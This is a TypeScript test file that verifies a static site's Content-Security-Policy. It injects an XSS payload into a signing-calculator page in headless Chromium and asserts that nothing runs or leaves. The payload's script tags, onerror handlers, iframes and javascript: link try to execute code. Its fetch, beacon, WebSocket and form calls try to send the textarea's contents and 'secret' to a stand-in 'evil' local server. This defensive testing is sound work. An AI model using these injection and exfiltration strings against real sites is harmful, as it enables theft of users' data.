import { existsSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { serve } from '../scripts/serve.mjs';
import { built, dist, files } from './dist.js';

const executablePath = process.env.CHROMIUM ?? '/usr/bin/chromium';

describe.runIf(built)('the policy of the site', () => {
  test('stands in every page before anything that it could hold for', () => {
    for (const file of files('.html')) {
      const html = readFileSync(dist + file, 'utf8');
      const [, policy = ''] =
        /^<!doctype html>\s*<html[^>]*>\s*<head>\s*<meta charset="utf-8">\s*<meta http-equiv="Content-Security-Policy" content="([^"]+)">/i.exec(
          html,
        ) ?? [];
      expect(policy, file).toContain("default-src 'none'; script-src 'self' 'sha256-");
      expect(policy, file).toContain("form-action 'none'; base-uri 'none'");
      expect(policy, file).not.toMatch(/unsafe-eval|https?:|\*/);
    }
  });
});

describe.runIf(built && existsSync(executablePath))('in Chromium', () => {
  test('what is injected does not run, and no secret leaves the calculator', async () => {
    const asked: string[] = [];
    const other = createServer((request, response) => {
      asked.push(request.url ?? '');
      response.end();
    });
    await new Promise<void>((done) => other.listen(0, '127.0.0.1', done));
    const evil = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
    const site = await serve(dist);
    const browser = await chromium.launch({
      executablePath,
      args: ['--no-sandbox', '--disable-gpu', '--disable-quic'],
    });
    try {
      const page = await browser.newPage();
      const steal = `fetch('${evil}/fetch?'+document.querySelector('textarea').value)`;
      const attempt =
        `<base href="${evil}/"><script>window.pwned = 1; ${steal}</script><img src="${evil}/img" onerror="window.pwned = 2">` +
        `<img src="data:," onerror="window.pwned = 3"><script src="${evil}/script.js"></script><link rel="stylesheet" href="${evil}/style.css">` +
        `<iframe src="${evil}/frame"></iframe><iframe srcdoc="<script>parent.pwned = 4</script>"></iframe><a id="link" href="javascript:window.pwned=5">x</a>` +
        `<style>@import url(${evil}/import.css); body { background: url(${evil}/background) }</style><form id="form" action="${evil}/form"><input name="a" value="secret"></form>`;
      await page.route('**/guides/signing-calculator.html', async (route) => {
        const response = await route.fetch();
        await route.fulfill({
          response,
          body: (await response.text()).replace('<div id="app">', () => `${attempt}<div id="app">`),
        });
      });
      await page.goto(`${site.url}guides/signing-calculator.html`, { waitUntil: 'load' });
      await page.evaluate(async (evil) => {
        const quietly = (work: () => unknown) =>
          Promise.resolve()
            .then(work)
            .catch(() => {});
        await quietly(() => fetch(`${evil}/later`, { method: 'POST', body: 'secret' }));
        await quietly(() => navigator.sendBeacon(`${evil}/beacon`, 'secret'));
        await quietly(() => new WebSocket(evil.replace('http', 'ws')));
        await quietly(() => new EventSource(`${evil}/events`));
        await quietly(() => document.querySelector<HTMLFormElement>('#form')?.submit());
        await quietly(() => document.querySelector<HTMLElement>('#link')?.click());
        await new Promise((done) => setTimeout(done, 500));
      }, evil);
      expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
      expect(asked).toEqual([]);
      expect(page.url()).toBe(`${site.url}guides/signing-calculator.html`);
    } finally {
      await browser.close();
      await site.close();
      other.close();
    }
  });
});
